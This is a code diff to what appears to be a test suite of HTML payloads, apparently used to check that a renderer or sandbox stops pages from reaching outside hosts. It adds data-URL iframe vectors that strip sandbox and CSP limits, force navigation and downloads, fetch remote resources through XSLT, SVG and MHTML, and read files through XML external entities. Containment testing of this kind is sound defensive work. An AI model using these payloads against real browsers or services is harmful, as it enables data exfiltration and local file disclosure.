@@ -268,6 +268,42 @@ const FILES: Record<string, Attack> = {
   'file: refresh': ({ fileUrl }) => `<meta http-equiv="refresh" content="0;url=${fileUrl}">`,
 };
 
+const dataFrame = (type: string, document: string) => `data:${type},${encodeURIComponent(document)}`;
+
+/** What a document in a `data:` address may try that no page can: its own type, its own frame, its own origin. */
+const FRAMES: Record<string, Attack> = {
+  'frame that takes its sandbox off': ({ url }) =>
+    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-downloads allow-popups" allow="*" src="${dataFrame('text/html', `<script>top.location='${url('a.html')}';fetch('${url('b')}')</script>`)}"></iframe>`,
+  'frame that takes its policy off': ({ url }) =>
+    `<iframe csp="default-src * 'unsafe-inline'" src="${dataFrame('text/html', `<img src="${url('a.png')}">`)}"></iframe>`,
+  'frame that goes elsewhere': ({ url }) =>
+    `<iframe src="${dataFrame('text/html', `<meta http-equiv="refresh" content="0;url=${url('a.html')}">`)}"></iframe>`,
+  'frame that opens itself again': () =>
+    `<iframe src="${dataFrame('text/html', '<meta http-equiv="refresh" content="0">')}"></iframe>`,
+  'frame that is downloaded': ({ url }) =>
+    `<iframe src="${dataFrame('application/octet-stream', 'x')}"></iframe><iframe src="${dataFrame('text/html', `<a id="x" download href="${url('a')}" autofocus onfocus="click()">x</a>`)}"></iframe>`,
+  'frame of XML with a style sheet': ({ url }) =>
+    `<iframe src="${dataFrame('text/xml', `<?xml-stylesheet type="text/xsl" href="${url('a.xsl')}"?><?xml-stylesheet type="text/css" href="${url('a.css')}"?><x/>`)}"></iframe>`,
+  'frame of XML that transforms itself': ({ url }) =>
+    `<iframe src="${dataFrame('text/xml', `<?xml-stylesheet type="text/xsl" href="${dataFrame('text/xsl', `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${url('b.xsl')}"/><xsl:template match="/"><img src="${url('a.png')}"/><xsl:copy-of select="document('${url('c.xml')}')"/></xsl:template></xsl:stylesheet>`)}"?><x/>`)}"></iframe>`,
+  'frame of XML with entities': ({ url, fileUrl }) =>
+    `<iframe src="${dataFrame('application/xhtml+xml', `<!DOCTYPE html [<!ENTITY a SYSTEM "${url('a.xml')}"><!ENTITY b SYSTEM "${fileUrl}"><!ENTITY % c SYSTEM "${url('c.dtd')}"> %c;]><html xmlns="http://www.w3.org/1999/xhtml"><body>&a;&b;</body></html>`)}"></iframe>`,
+  'frame of a drawing': ({ url }) =>
+    `<object data="${dataFrame('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="fetch('${url('a')}')"><script href="${url('a.js')}"/><style>@import "${url('a.css')}";</style><image href="${url('a.png')}" width="200" height="100"/><use href="${url('a.svg#shape')}"/><foreignObject width="200" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url('a.html')}"/></foreignObject></svg>`)}"></object>`,
+  'frame of an archive': ({ url }) =>
+    `<iframe src="${dataFrame('multipart/related;boundary=b', `--b\r\nContent-Type: text/html\r\nContent-Location: ${url('')}\r\n\r\n<img src="${url('a.png')}">\r\n--b--`)}"></iframe>`,
+  'embedded document of a plugin': ({ url }) =>
+    `<embed src="${dataFrame('application/pdf', `%PDF-1.4 1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url('a')})>>>>endobj`)}"><object type="application/x-shockwave-flash" data="${dataFrame('application/x-shockwave-flash', 'FWS')}"></object>`,
+  'frame of sound and film': ({ url }) =>
+    `<iframe src="${dataFrame('application/vnd.apple.mpegurl', `#EXTM3U\n#EXTINF:9,\n${url('a.ts')}`)}"></iframe><iframe src="${dataFrame('video/mp4', 'x')}"></iframe>`,
+};
+
+/** A page that makes the same attack from within a document in a `data:` address, two frames deep. */
+export function framed(attack: string): string {
+  const document = dataFrame('text/html', `<!doctype html><html><head>${attack}</head><body>x</body></html>`);
+  return `<iframe src="${dataFrame('text/html', `<object data="${document}"></object>`)}"></iframe>`;
+}
+
 /** Everything a page may try to reach the outside with, by name. */
 export const ATTACKS: Record<string, Attack> = {
   ...ELEMENTS,
@@ -280,4 +316,5 @@ export const ATTACKS: Record<string, Attack> = {
   ...SCRIPTS,
   ...SCHEMES,
   ...FILES,
+  ...FRAMES,
 };
